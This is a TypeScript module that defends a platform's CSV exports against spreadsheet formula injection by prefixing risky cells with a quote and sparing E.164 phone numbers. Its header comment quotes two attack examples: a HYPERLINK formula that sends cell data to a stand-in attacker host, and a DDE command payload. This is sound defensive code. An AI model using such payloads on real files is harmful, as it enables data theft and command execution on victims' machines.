/**
 * Cells of the CSV files the platform writes (campaign recipients, conversation messages), made safe to
 * open in a spreadsheet.
 *
 * Much of what lands in an export was typed by someone else: a customer's message, a variable from an
 * uploaded list, WhatsApp's error text. Excel, LibreOffice Calc, Google Sheets and Numbers read a cell
 * that starts with `=`, `+`, `-` or `@` as a formula, and OWASP also lists a leading tab and carriage
 * return, which some of them skip before looking for one. A customer who writes `=HYPERLINK("https://evil.example/?"&A1,
 * "Click")` would otherwise get a live link that sends the neighbouring cells away when an agent clicks
 * it, and older Excel versions run commands through DDE (`=cmd|'/c calc'!A1`). This is CSV (formula)
 * injection, OWASP's "CSV Injection".
 *
 * The defence is the one OWASP describes: such a cell gets a leading single quote, which every one of
 * these programs shows as text rather than evaluating, and the writer quotes it (csvText in
 * csv-export.ts). The full-width forms of the four characters (＝ ＋ － ＠) are treated the same, since
 * Numbers is reported to fold them to their ASCII forms first (csv-stringify's own rule does the same). The value a program reading the file gets back is the
 * original with the quote in front, so nothing is lost, and a cell that is already text is untouched.
 *
 * One shape is left as it is, on purpose: a phone number in E.164 (`+` and 7 to 15 digits, nothing else),
 * such as `+4915112345678`. Every recipient row starts with one, and a reader of the file (a script, a
 * re-upload as a new campaign) needs it exactly as the API gives it. A spreadsheet that reads it as a
 * formula finds a unary plus before a number: it has no function name, no cell reference (those need
 * letters) and no second operator, so it can only ever evaluate to that number. At worst it is shown as
 * one (4.91511E+12), which is a display matter, not an injection. Anything else after the `+` (a space, a
 * second `+`, a letter: `+1+1`, `+49 151`, `+A1`) is prefixed like any other formula.
 */

/** First characters a spreadsheet may read as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** An E.164 phone number and nothing else: inert even when read as a formula (see above). */
const E164 = /^\+[1-9]\d{6,14}$/;

/** Whether a spreadsheet could read `text` as a formula, so that it needs neutralizeCell. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text) && !E164.test(text);
}

/**
 * The cell as a spreadsheet should show it: text that could start a formula gets a leading `'`; any
 * other text (an E.164 phone number included) is returned unchanged. The CSV writer quotes every cell
 * this changed.
 */
export function neutralizeCell(text: string): string {
  return isFormulaLike(text) ? `'${text}` : text;
}
